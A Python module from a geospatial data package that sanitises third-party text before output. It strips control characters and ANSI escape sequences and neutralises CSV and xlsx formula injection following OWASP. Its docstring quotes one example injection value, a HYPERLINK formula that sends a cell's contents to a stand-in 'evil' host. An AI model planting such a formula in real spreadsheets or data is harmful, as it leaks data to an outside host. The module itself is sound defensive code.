"""Text from data is inert in every output: never a formula, never a terminal control sequence.

Names and ids come from third-party data (OSM names through ``ditan units``, clients' files, text pasted
from Word or Excel). Such a text may be ``=HYPERLINK("http://evil/?"&A1,"click")`` or carry control
characters (a BEL, an ANSI escape sequence ``ESC[31m``, a vertical tab). The rules, and where they apply:

- **Control characters are removed where the data is read** (:func:`clean_text_columns`, called by
  :func:`ditan.pipelines.assemble.load.load_study_area` on the unit ids, names and kinds and on the names of
  the facilities, stations, amenities, land use and roads (derived units are named from those), and by
  ``ditan check-parcels`` on the ids and names of the parcels for sale, whose counts are logged as it writes
  no data-quality table): C0 controls but tab and line feed, DEL, C1 controls, and an ANSI/VT escape sequence
  whole (``ESC[31m`` goes, not only ``ESC``).
  Each cleaned value is counted in the data-quality ledger (flagged, per column), so data_quality.csv says
  ``name: control characters removed 已删除控制字符: N``. Removing them at reading keeps every later output
  (tables, GeoPackage, map, log, terminal) clean at once.
- **Formula-like text is kept as it is, and made inert where it is written**: a text starting with
  ``=`` ``+`` ``-`` ``@`` tab or CR (:data:`FORMULA_START`, OWASP's list for CSV injection) is counted in the
  ledger at reading (``name: starts with = + - @ tab or CR, written as text …: N``) and then
  written as a string cell in xlsx (:func:`xlsx_cell` and ditan.pipelines.outputs.files.xlsx_row, which types
  every text cell as a string: never a formula, nor an error value such as ``#N/A``) and prefixed with ``'`` in CSV
  (:func:`csv_cell`, as OWASP recommends). The value itself is not changed in memory, the GeoPackage or
  the map (those formats do not evaluate text). Only text is treated: a number is never prefixed, so a
  column of negative numbers stays numeric; a *text* "-5" in a name column gets the prefix (OWASP's rule).
- **The writers are a second line**: :func:`csv_cell` and :func:`xlsx_cell` remove control characters too
  (openpyxl refuses most of them with IllegalCharacterError), whatever the text's origin; so do
  :func:`terminal_text` (console and log lines: each control character shown as ``\\xNN``) and the JSON
  writer (strict JSON: control characters escaped by :mod:`json`, NaN and infinity written as null).
"""

from __future__ import annotations

import re

import numpy as np
import pandas as pd

from ditan.spatial.io.validate import Ledger

__all__ = [
    "CONTROL_RE",
    "FORMULA_START",
    "clean_text_columns",
    "csv_cell",
    "csv_frame",
    "strip_controls",
    "terminal_text",
    "xlsx_cell",
]

#: an ANSI / VT escape sequence (CSI ``ESC [ … final``, OSC ``ESC ] … BEL|ESC \\``, or ESC and one character),
#: then any single control character but tab and line feed: C0, DEL, C1 (which holds the 8-bit CSI, 0x9b)
CONTROL_RE = re.compile(
    r"\x1b\[[0-?]*[ -/]*[@-~]"
    r"|\x1b\][^\x07\x1b]*(?:\x07|\x1b\\)?"
    r"|\x1b[@-_]?"
    r"|[\x00-\x08\x0b-\x1f\x7f-\x9f]"
)
#: the first characters that make a spreadsheet read a cell as a formula (OWASP, CSV injection)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_FORMULA_RE = r"^[=+\-@\t\r]"
#: the ledger's words for what was changed or kept as text (data_quality.csv, column flagged_why)
CLEANED = "control characters removed 已删除控制字符"
AS_TEXT = "starts with = + - @ tab or CR, written as text (xlsx) and '-prefixed (CSV) 以公式字符开头，按文本写出"


def strip_controls(text: str) -> str:
    """``text`` without control characters (but tab and line feed) and without whole escape sequences."""
    return CONTROL_RE.sub("", text)


def csv_cell(value: object) -> object:
    """A CSV cell: a str without control characters, ``'``-prefixed when it starts like a formula; else as is."""
    if not isinstance(value, str):
        return value
    text = strip_controls(value)
    return "'" + text if text.startswith(FORMULA_START) else text


def xlsx_cell(value: object) -> object:
    """A str without the control characters an xlsx cannot hold (the writer types it as a string); else as is."""
    return strip_controls(value) if isinstance(value, str) else value


def terminal_text(text: str) -> str:
    """``text`` for a terminal or a log line: each control character but tab and line feed shown as ``\\xNN``."""
    return re.sub(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", lambda m: f"\\x{ord(m.group()):02x}", text)


def _texts(s: pd.Series) -> pd.Series | None:
    """A boolean mask of the str values of ``s`` (None when the column holds no text at all)."""
    if pd.api.types.is_numeric_dtype(s) or pd.api.types.is_bool_dtype(s):
        return None
    if isinstance(s.dtype, pd.StringDtype):
        return s.notna()
    mask = s.map(lambda v: isinstance(v, str), na_action="ignore").fillna(False).astype(bool)
    return mask if mask.any() else None


def _csv_series(s: pd.Series) -> pd.Series:
    """A column with csv_cell applied to its str values (vectorised; non-str values untouched)."""
    mask = _texts(s)
    if mask is None:
        return s
    where = np.flatnonzero(mask.to_numpy())
    # as Python objects: Python's re, whatever the column's storage (numpy, Arrow, categorical)
    text = pd.Series(s.to_numpy(dtype=object)[where], dtype=object)
    bad = text.str.contains(CONTROL_RE.pattern, regex=True) | text.str.contains(
        _FORMULA_RE, regex=True
    )
    if not bad.any():
        return s
    out = s.astype(object).copy()
    out.iloc[where[bad.to_numpy(dtype=bool)]] = [csv_cell(v) for v in text[bad]]
    return out


def csv_frame(df: pd.DataFrame) -> pd.DataFrame:
    """``df`` with csv_cell applied to every text value, its index and column names (a new frame)."""
    out = df.copy(deep=False)
    for i in range(out.shape[1]):
        col = out.iloc[:, i]
        done = _csv_series(col)
        if done is not col:
            out.isetitem(i, done)
    levels = [
        out.index.get_level_values(k).to_series(index=range(len(out)))
        for k in range(out.index.nlevels)
    ]
    done_levels = [_csv_series(lv) for lv in levels]
    if any(d is not lv for d, lv in zip(done_levels, levels, strict=True)):
        names = [csv_cell(n) for n in out.index.names]
        arrays = [d.to_numpy() for d in done_levels]
        out.index = (
            pd.MultiIndex.from_arrays(arrays, names=names)
            if len(arrays) > 1
            else pd.Index(arrays[0], name=names[0])
        )
    if not isinstance(out.columns, pd.MultiIndex):
        out.columns = [csv_cell(c) for c in out.columns]
    return out


def clean_text_columns(
    df: pd.DataFrame,
    columns: list[str],
    ledger: Ledger,
    layer: str,
    *,
    index: bool = False,
    formula: bool = True,
) -> pd.DataFrame:
    """``df`` with control characters removed from the str values of ``columns`` (and of its index, with ``index``).

    Each column's cleaned values are counted in ``ledger.layer(layer).flagged`` (``<column>: control characters
    removed …``); with ``formula``, so are its values that start like a formula (kept as they are: the writers
    make them inert). Returns ``df`` itself when nothing changed, else a copy. The index is counted under its
    name (``id`` when it has none).
    """
    out = df
    series: list[tuple[str | None, pd.Series]] = [(c, df[c]) for c in columns if c in df.columns]
    if index:
        series.append((None, df.index.to_series(index=range(len(df)))))
    for name, s in series:
        mask = _texts(s)
        if mask is None:
            continue
        label = name if name is not None else (df.index.name or "id")
        where = np.flatnonzero(mask.to_numpy())
        text = s.to_numpy(dtype=object)[where]
        dirty = pd.Series(text, dtype=object).str.contains(CONTROL_RE.pattern, regex=True)
        dirty = dirty.to_numpy(dtype=bool)
        if dirty.any():
            text = text.copy()
            text[dirty] = [strip_controls(v) for v in text[dirty]]
            ledger.layer(layer).flagged[f"{label}: {CLEANED}"] += int(dirty.sum())
        if formula:
            n = int(pd.Series(text, dtype=object).str.contains(_FORMULA_RE, regex=True).sum())
            if n:
                ledger.layer(layer).flagged[f"{label}: {AS_TEXT}"] += n
        if not dirty.any():
            continue
        new = s.to_numpy(dtype=object).copy()
        new[where] = text
        if out is df:
            out = df.copy()
        if name is None:
            out.index = pd.Index(new, name=df.index.name)
        else:
            out[name] = new
    return out
